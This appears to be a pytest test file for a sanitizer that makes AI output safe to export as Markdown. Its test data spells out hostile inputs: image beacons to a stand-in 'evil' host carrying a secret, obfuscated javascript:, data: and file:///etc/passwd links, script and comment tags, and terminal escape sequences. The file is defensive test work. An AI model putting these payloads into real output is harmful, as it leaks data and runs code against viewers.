"""A model's words in an exported file must not phone home from a viewer, hide what follows, or steer a terminal."""

import re
from urllib.parse import unquote

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from tui.formats.neutral import neutral, plain

PARSER = MarkdownIt("commonmark").enable("table")


ONLY_LOOKS = {"<br>", "<br/>", "<br />", "<BR>", "<sub>", "</sub>", "<sup>", "</sup>", "<kbd>", "</kbd>"}


def kinds(text: str) -> set[str]:
    found = set()
    for token in PARSER.parse(text):
        found.add(token.type)
        found.update(child.type for child in token.children or () if child.content not in ONLY_LOOKS)
    return found


def words(text: str) -> str:
    return "".join(
        child.content for token in PARSER.parse(text) for child in token.children or () if child.type != "image"
    )


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](http://evil/?q=secret)",
        "![x][ref]\n\n[ref]: http://evil/",
        "![ref]\n\n[ref]: http://evil/",
        "[![x](http://evil/)](http://evil/)",
        "<img src=http://evil/>",
        "text <img src=http://evil/> text",
        "<!-- everything after this is gone",
        "<details><summary>fake",
        "</details>",
        "<script>alert(1)",
        "<?php",
        "<!DOCTYPE html>",
        "<![CDATA[",
        r"\\![x](http://evil/)",
        r"\\<img src=http://evil/>",
        r"\` ![x](http://evil/) `",
        "` | ![x](http://evil/) `\n\n| a ` | ![x](http://evil/) ` |\n|---|---|\n| ` | ![x](http://evil/) ` |",
        "| a | b |\n|---|---|\n| ` | ![x](http://evil/) ` |",
        "`` ` ![x](http://evil/)",
        "- item\n\n  ![x](http://evil/)",
        "> ![x](http://evil/)",
        "# `\n![x](http://evil/) `",
        "```\ncode\n```\n![x](http://evil/)",
        "<br>\n<img src=http://evil/>",
        "- <br>\n<img src=http://evil/>",
        "1. <kbd>\n<img src=http://evil/>",
        "> 1. <sub>\n> <img src=http://evil/>",
        "a <br onclick=alert(1)> b <kbd style='position:fixed'> <sub/x>",
        "<div>\n```\n![x](http://evil/)\n```\n</div>",
        "1. `\n2. ![x](http://evil/) `",
        "[a](<b> ![x](http://evil/)",
        "!\\[x](http://e) ![x\n](http://evil/)",
    ],
)
def test_pictures_and_html_become_words(hostile: str) -> None:
    assert not kinds(neutral(hostile)) & {"image", "html_inline", "html_block"}


@pytest.mark.parametrize(
    "harmless",
    [
        "plain words, 1 < 2 and 2 > 1",
        "# Head\n\n- a *b* **c** `d`\n- [link](http://example.org)",
        "`![x](u)` and ``<b>` ``",
        "```html\n<img src=x>\n![x](u)\n```",
        "    <indented>\n    ![code](u)",
        "- item\n  ```\n  <in a list>\n  ```",
        "<https://example.org> and <someone@example.org>",
        r"\![x](u) \<b>",
        "| a | b |\n|---|---|\n| `<b>` | 2 |",
        "| A | 1. Install<br>2. Start<br/>3. Go | fast<br />simple |\n|---|---|---|\n| x<BR>y | H<sub>2</sub>O |",
        "Press <kbd>Ctrl</kbd>+<kbd>C</kbd>, then x<sup>2</sup>.\nOn another line<br>too",
    ],
)
def test_code_links_and_what_is_escaped_already_stay_as_written(harmless: str) -> None:
    assert neutral(harmless) == harmless


def test_a_neutralised_picture_still_shows_its_words() -> None:
    assert neutral("see ![a cat](http://x/cat.png)!") == "see \\![a cat](http://x/cat.png)!"
    assert words(neutral("a <b>bold</b> move")) == "a <b>bold</b> move"


@pytest.mark.parametrize(
    "text",
    ["```python\nprint(1)", "~~~~\ncode\n~~~", "text\n\n```", "````\n```\n```\ncode", "```\ncode\n``` not the end"],
)
def test_an_open_fence_ends_with_its_message(text: str) -> None:
    closed = neutral(text)
    assert closed.startswith(text)
    assert "heading_open" in kinds(f"{closed}\n\n## Next")


@pytest.mark.parametrize(
    "text",
    [
        "```\ncode\n```",
        "- item\n  ```\n  open in a list",
        "1. item\n   ```\n   open in a list",
        "> ```\n> open in a quote",
        "````\n```\n````",
        "a ``` b",
    ],
)
def test_a_fence_that_ends_by_itself_is_left_alone(text: str) -> None:
    assert neutral(text) == text
    assert "heading_open" in kinds(f"{text}\n\n## Next")


PIECES = (
    *("<br>", "<kbd>", "</sub>", "<br/>"),
    *("![", "](", ")", "[", "]", "<", "img ", "/>", "-->", "<!--", "`", "``", "```", "~~~", "\n", "\n\n", " ", "    "),
    *("\\", "|", "|---|", "- ", "> ", "1. ", "a", "b", "http://x", "&lt;", "!", "#", "\t"),
    *("](javascript:", "]: javascript:x", "[r]", "<javascript:x>", "java", "script:", "&#115;"),
)


@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join))
def test_nothing_comes_alive_however_it_is_put_together(text: str) -> None:
    written = f"{neutral(text)}\n\n## Next"
    assert not kinds(written) & {"image", "html_inline", "html_block"}
    assert not [target for target in targets(written) if "script:" in target.partition("/")[0]]
    assert any(token.type == "heading_open" and token.level == 0 for token in PARSER.parse(written)[-3:])


def test_controls_do_not_reach_the_file_and_neither_do_signs_for_them() -> None:
    assert neutral("a\x1b]0;pwned\x07b\x9bc\u202ed\u00ade") == "a␛]0;pwned␇b\ufffdcde"
    assert plain("t\x1b\u202e\u200fx") == "t␛\u200fx"


def test_direction_marks_and_flags_stay() -> None:
    flag = "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f"
    text = f"שלום\u200f! C++\u200e می‌خواهم {flag}"
    assert neutral(text) == text


LINKS = MarkdownIt("commonmark").enable("table")
LINKS.validateLink = lambda url: True  # type: ignore[method-assign]  # as viewers do that check nothing


RUNS = re.compile(r"(javascript|vbscript|data|file|vscode|ms-msdt|smb):", re.IGNORECASE)


def targets(text: str) -> list[str]:
    """Where the links of a text lead."""
    tokens = [child for token in LINKS.parse(text) for child in token.children or ()]
    return [str(token.attrGet("href")) for token in tokens if token.type == "link_open"]


@pytest.mark.parametrize(
    "hostile",
    [
        "[x](javascript:alert(1))",
        "[x]( JaVaScRiPt:alert(1) 'title')",
        "[x](<java\tscript:alert(1)>)",
        "[x](java&#115;cript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](java&Tab;script:alert(1))",
        "[x](java&NewLine;script:alert(1))",
        "[x](&#x20;javascript:alert(1))",
        "[x](java\\script:alert(1)) [y](\\javascript:a)",
        "[x](javascript\\:alert(1))",
        "[x](\n  javascript:alert(1))",
        "[x](%6aavascript:alert(1))",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "[r]\n\n  [r]:\n  <javascript:alert(1)>\n  'title'",
        "> [r]: javascript:alert(1)\n\n[r]",
        "- [r]: javascript:alert(1)\n\n[r][]",
        "<javascript:alert(1)>",
        "<JAVASCRIPT:alert(1)>",
        "[x](vbscript:x) [y](data:text/html,<script>) [z](file:///etc/passwd)",
        "[x](vscode://open) <ms-msdt:x> [y](smb://host/share)",
        "[![x](http://e/)](javascript:alert(1))",
        "**[x](javascript:alert(1))** | [`code`](javascript:alert(1))",
        "| a |\n|---|\n| [x](javascript:alert(1)) |",
        "# [x](javascript:alert(1))",
        "[a](http://good) [x](javascript:alert(1)) [b](http://good)",
        "[x [y](javascript:alert(1)) z](http://good)",
        "` [x](javascript:alert(1)) `` [y](javascript:alert(1))",
    ],
)
def test_a_link_that_runs_something_is_no_link_in_any_viewer(hostile: str) -> None:
    written = neutral(hostile)
    assert not [target for target in targets(written) if RUNS.match(unquote(target).strip())], written
    if "](" in hostile and "http://good" in hostile:
        assert targets(written), "the others stay"


@pytest.mark.parametrize(
    "harmless",
    [
        "[a](https://example.org/a:b?c=javascript:d) <mailto:a@b.org> <a@b.org>",
        "[a](file.md) [b](#part) [c](/path/x:y) [d](../e.md 'title')",
        "[r]: https://example.org\n\n[r] and [x][r]",
        "[x](tel:+123) and [y](HTTP://EXAMPLE.ORG)",
        "see [1]: that is all, dict[str](a) and x[0]: int",
        "`[x](javascript:alert(1))` and\n\n```\n[x](javascript:alert(1))\n[r]: javascript:x\n```",
        "[TODO](12:30)",
    ],
)
def test_other_links_stay_as_written(harmless: str) -> None:
    assert neutral(harmless) == harmless


def test_a_line_of_words_has_no_meaning_in_markdown() -> None:
    hostile = "# [a](b) *c* `d` <e> ![f](g) | h\n## i"
    line = plain(hostile)
    assert "\n" not in line
    assert kinds(line) == {"paragraph_open", "inline", "paragraph_close", "text"}
